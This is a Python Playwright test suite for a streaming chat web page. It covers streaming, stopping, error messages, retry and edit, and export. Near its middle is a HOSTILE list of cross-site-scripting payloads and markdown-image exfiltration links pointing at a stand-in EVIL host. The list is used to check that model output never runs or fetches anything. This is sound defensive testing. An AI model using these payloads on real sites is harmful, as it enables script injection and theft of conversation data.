"""The page in a real browser."""

import re
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, expect, sync_playwright
from playwright.sync_api import Page as Tab

from tests.integration.ui.conftest import Page
from tests.integration.ui.fake_runtime import Script

CHROMIUM = Path("/usr/bin/chromium")
FLAGS = (
    "--no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking "
    "--disable-component-update --disable-sync --disable-dev-shm-usage"
)
QUESTION = "What is the capital of France?"
ANSWER = ["The ", "capital ", "of ", "France ", "is ", "**Paris**", "."]
ERROR = {
    "message": "the queue holds 64 of 64 requests; ask again in 2 s",
    "type": "overloaded_error",
    "code": "queue_full",
    "param": None,
    "retryAfterSeconds": 0,
    "release": "3f2a91c07d4e",
    "rollout": "3f2a91c07d4e-1",
}

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason=f"the browser tests did not run: no Chromium at {CHROMIUM}"),
]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=FLAGS.split())
        yield browser
        browser.close()


@pytest.fixture
def tab(browser: Browser, page: Page) -> Iterator[Tab]:
    tab = browser.new_page(viewport={"width": 1000, "height": 760})
    tab.set_default_timeout(10_000)
    tab.goto(page.url)
    yield tab
    tab.close()


def ask(tab: Tab, question: str = QUESTION) -> None:
    """Types and presses Enter, again if the page was still busy with the answer before."""
    box = tab.get_by_test_id("textbox").first
    box.fill(question)
    for _ in range(5):
        box.press("Enter")
        with suppress(AssertionError):
            expect(box).to_have_value("", timeout=2_000)
            return
    raise AssertionError(f"the page does not take the question {question!r}")


def answers(tab: Tab) -> Locator:
    return tab.locator(".bot.message")


def test_an_answer_streams_and_names_the_release_that_gave_it(tab: Tab, page: Page) -> None:
    page.runtime.scripts = [Script(words=ANSWER * 4, pause_s=0.1)]

    ask(tab)

    expect(answers(tab).first).to_contain_text("The capital")
    halfway = answers(tab).first.inner_text()
    expect(answers(tab).first).to_contain_text("28 tokens", timeout=15_000)
    whole = answers(tab).first.inner_text()
    assert halfway.count("capital") < whole.count("capital") == 4, "the answer came in one piece"
    assert re.search(r"release 3f2a91c07d4e · 28 tokens · \d+\.\d s to first token · \d+ tokens/s", whole)
    expect(answers(tab).first.locator("strong").first).to_have_text("Paris")


def test_stop_ends_the_answer_and_hangs_up_on_the_model(tab: Tab, page: Page) -> None:
    page.runtime.scripts = [Script(words=["word "] * 400, pause_s=0.05)]
    ask(tab)
    expect(answers(tab).first).to_contain_text("word word")

    tab.get_by_test_id("stop-button").click()

    assert page.runtime.hung_up.wait(30), "the model's server still writes 30 s after Stop"
    kept = answers(tab).first.inner_text()
    time.sleep(0.5)
    assert answers(tab).first.inner_text() == kept
    assert "word word" in kept
    assert "release 3f2a91c07d4e" in kept


def test_the_next_question_carries_the_conversation_and_no_remark_of_the_page(tab: Tab, page: Page) -> None:
    page.runtime.scripts = [Script(words=["Paris."])]
    ask(tab)
    expect(answers(tab).first).to_contain_text("1 token ·")

    ask(tab, "And of Italy?")

    expect(answers(tab)).to_have_count(2)
    expect(answers(tab).nth(1)).to_contain_text("1 token ·")
    assert page.runtime.requests[-1]["messages"] == [
        {"role": "user", "content": QUESTION},
        {"role": "assistant", "content": "Paris."},
        {"role": "user", "content": "And of Italy?"},
    ]


@pytest.mark.parametrize(
    ("script", "sentence"),
    [
        pytest.param(Script(ending="unknown"), "does not exist yet", id="no endpoint yet"),
        pytest.param(Script(ending="refused", status=503, body={"error": ERROR}), "The queue holds 64", id="full"),
        pytest.param(Script(ending="refused", status=500), "answered 500 without a reason", id="no reason given"),
    ],
)
def test_what_went_wrong_is_said_in_one_sentence(tab: Tab, page: Page, script: Script, sentence: str) -> None:
    page.runtime.scripts = [script]

    ask(tab)

    expect(answers(tab).first).to_contain_text(sentence, timeout=15_000)


@pytest.mark.parametrize(
    ("ending", "sentence"),
    [
        pytest.param("cut", "without its end mark", id="the instance went away"),
        pytest.param("error", "broke off", id="SageMaker says that the stream broke"),
        pytest.param("event", "The queue holds 64", id="the server says why"),
    ],
)
def test_a_broken_answer_keeps_what_came_before(tab: Tab, page: Page, ending: str, sentence: str) -> None:
    page.runtime.scripts = [Script(words=["Paris ", "is "], ending=ending, body={"error": ERROR})]

    ask(tab)

    expect(answers(tab).first).to_contain_text(sentence)
    expect(answers(tab).first).to_contain_text("Paris is")
    assert len(page.runtime.requests) == 1, "a word that was shown must not be asked for again"


def test_a_break_before_the_first_word_is_not_seen(tab: Tab, page: Page) -> None:
    page.runtime.scripts = [Script(ending="cut"), Script(words=ANSWER)]

    ask(tab)

    expect(answers(tab).first).to_contain_text("7 tokens")
    expect(answers(tab).first).not_to_contain_text("end mark")


HOSTILE = (
    "<img src=x onerror=\"document.title='owned'\">",
    "<script>document.title='owned'</script>",
    "<svg onload=\"document.title='owned'\"></svg>",
    "<svg><script>document.title='owned'</script></svg>",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    '<iframe src="http://EVIL/frame"></iframe>',
    "<math><mtext><img src=x onerror=\"document.title='owned'\"></mtext></math>",
    "<details open ontoggle=\"document.title='owned'\">x</details>",
    "<input autofocus onfocus=\"document.title='owned'\">",
    "<a href=\"javascript:document.title='owned'\">look</a>",
    "[look](javascript:document.title='owned')",
    '<form action="http://EVIL"><button>press</button></form>',
    "<style>@import url('http://EVIL/style.css');</style>",
    '<link rel=stylesheet href="http://EVIL/style.css">',
    '<base href="http://EVIL/">',
    '<object data="http://EVIL/object"></object>',
    '<video poster="http://EVIL/poster.png" src="http://EVIL/film.mp4"></video>',
    '<div style="background:url(http://EVIL/background.png)">x</div>',
    '<meta http-equiv=refresh content="0;url=http://EVIL">',
    "![a secret of the conversation](http://EVIL/pixel.png?secret=1)",
    "![x](//EVIL/pixel.png)",
    '![x](http://EVIL/"onerror="document.title=1)',
    "$$\\href{javascript:document.title='owned'}{x}$$",
    "$$\\includegraphics{http://EVIL/tex.png}$$",
    "```html\n<script>document.title='owned'</script>\n```",
    "```mermaid\ngraph TD; A[<img src=x onerror=\"document.title='owned'\">]\n```",
)
"""After OWASP's cheat sheets on cross-site scripting and on prompt injection (images that carry a secret away)."""


@contextmanager
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another site than the page's, its address, and what it was asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"127.0.0.1:{server.server_address[1]}", asked
    finally:
        server.shutdown()
        server.server_close()


def test_what_the_model_says_is_never_run_and_fetches_nothing(browser: Browser, page: Page) -> None:
    """A few to an answer, so that what one leaves open swallows few others."""
    pieces = ["\n\n".join(HOSTILE[start : start + 4]) for start in range(0, len(HOSTILE), 4)]
    with elsewhere() as (site, asked):
        page.runtime.scripts = [Script(words=[piece.replace("EVIL", site), "\n\ndone"]) for piece in pieces]
        tab = browser.new_page()
        tab.goto(page.url)

        for number in range(len(pieces)):
            ask(tab, f"piece {number}")
            expect(answers(tab).nth(number)).to_contain_text("2 tokens")
            for link in answers(tab).nth(number).get_by_text("look", exact=True).all():
                link.click(timeout=2_000, no_wait_after=True)

        assert len(page.runtime.requests) == len(pieces)
        assert tab.title() == "Slipway chat"
        assert asked == []
        tab.close()


def test_an_empty_page_offers_questions_that_one_click_asks(tab: Tab, page: Page) -> None:
    page.runtime.scripts = [Script(words=ANSWER)]

    tab.get_by_role("button", name=QUESTION).click()

    expect(answers(tab).first).to_contain_text("7 tokens")
    assert page.runtime.requests[-1]["messages"] == [{"role": "user", "content": QUESTION}]


def test_what_one_types_into_and_presses_has_a_name(tab: Tab, page: Page) -> None:
    page.runtime.scripts = [Script(words=["word "] * 1_000, pause_s=0.05)]

    tab.get_by_role("textbox", name="Your question").fill(QUESTION)
    tab.get_by_role("button", name="Ask", exact=True).click()

    tab.get_by_role("button", name="Stop", exact=True).click()
    assert page.runtime.hung_up.wait(30)


@pytest.mark.parametrize("width_px", [390, 1280])
def test_no_answer_makes_the_page_scroll_sideways(browser: Browser, page: Page, width_px: int) -> None:
    page.runtime.scripts = [Script(words=["x" * 500, "\n```python\n", "print(1) " * 80, "\n```\n"])]
    tab = browser.new_page(viewport={"width": width_px, "height": 800})
    tab.goto(page.url)

    ask(tab)

    expect(answers(tab).first).to_contain_text("4 tokens")
    assert tab.evaluate("document.documentElement.scrollWidth") == width_px
    tab.close()


def test_the_page_asks_no_other_host(browser: Browser, page: Page) -> None:
    tab = browser.new_page()
    asked: list[Any] = []
    tab.on("request", lambda request: asked.append(request.url))

    tab.goto(page.url)
    expect(tab.get_by_test_id("textbox")).to_be_visible()

    assert asked
    assert [url for url in asked if not url.startswith((page.url, "data:", "blob:"))] == []
    tab.close()


def test_a_conversation_is_asked_again_edited_kept_opened_and_exported(tab: Tab, page: Page) -> None:
    page.runtime.scripts = [Script(words=["Lyon."]), Script(words=["Paris."]), Script(words=["Rome."])]
    ask(tab)
    expect(answers(tab).first).to_contain_text("Lyon.")

    tab.get_by_role("button", name="Retry").first.click()
    expect(answers(tab).first).to_contain_text("Paris.")
    tab.get_by_role("button", name="Edit").first.click()
    tab.locator("#conversation textarea").fill("And of Italy?")
    tab.get_by_role("button", name="Submit").first.click()
    expect(answers(tab).first).to_contain_text("Rome.")

    asked = [[message["content"] for message in request["messages"]] for request in page.runtime.requests]
    assert asked == [[QUESTION], [QUESTION], ["And of Italy?"]]
    kept = tab.locator("#kept").get_by_text("And of Italy?")
    expect(kept).to_have_count(1)
    tab.reload()
    tab.locator(".toggle-button").first.click()
    kept.click()
    expect(answers(tab).first).to_contain_text("Rome.")
    tab.get_by_role("button", name="Export").click()
    with tab.expect_download() as saved:
        tab.get_by_role("link", name="Save as Markdown").click()
    assert saved.value.path().read_text(encoding="utf-8").endswith("**You**\n\nAnd of Italy?\n\n**Model**\n\nRome.\n")


def test_a_broken_answer_goes_on_where_it_stopped(tab: Tab, page: Page) -> None:
    page.runtime.scripts = [Script(words=["Par"], ending="cut"), Script(words=["is."])]
    ask(tab)
    expect(answers(tab).first).to_contain_text("Broken off")

    tab.get_by_role("button", name="Continue").click()

    expect(answers(tab).first).to_contain_text("Paris.")
    expect(answers(tab).first).not_to_contain_text("Broken off")


def test_the_way_to_answer_reaches_the_model_and_dark_stays_dark(tab: Tab, page: Page) -> None:
    page.runtime.scripts = [Script(words=["Arr."])]
    tab.get_by_text("How to answer").click()
    tab.get_by_label("System prompt").fill("Speak as a pirate.")
    tab.get_by_label("Balanced").check()
    tab.get_by_role("button", name="Light or dark").click()

    ask(tab)
    expect(answers(tab).first).to_contain_text("Arr.")

    request = page.runtime.requests[-1]
    assert request["messages"][0] == {"role": "system", "content": "Speak as a pirate."}
    assert (request["temperature"], request["top_p"]) == (0.7, 0.9)
    tab.reload()
    expect(tab.locator("body.dark")).to_be_visible()


def test_what_people_write_reaches_no_log(tab: Tab, page: Page) -> None:
    secret = "canary-5e2d"
    page.runtime.scripts = [Script(words=[secret, "-said"]), Script(ending="refused", status=500), Script(ending="cut")]

    for _ in range(3):
        ask(tab, f"{secret} is what I ask")
        expect(tab.get_by_role("button", name="Ask", exact=True)).to_be_visible(timeout=15_000)

    assert page.runtime.requests
    assert secret not in page.log.read_text()
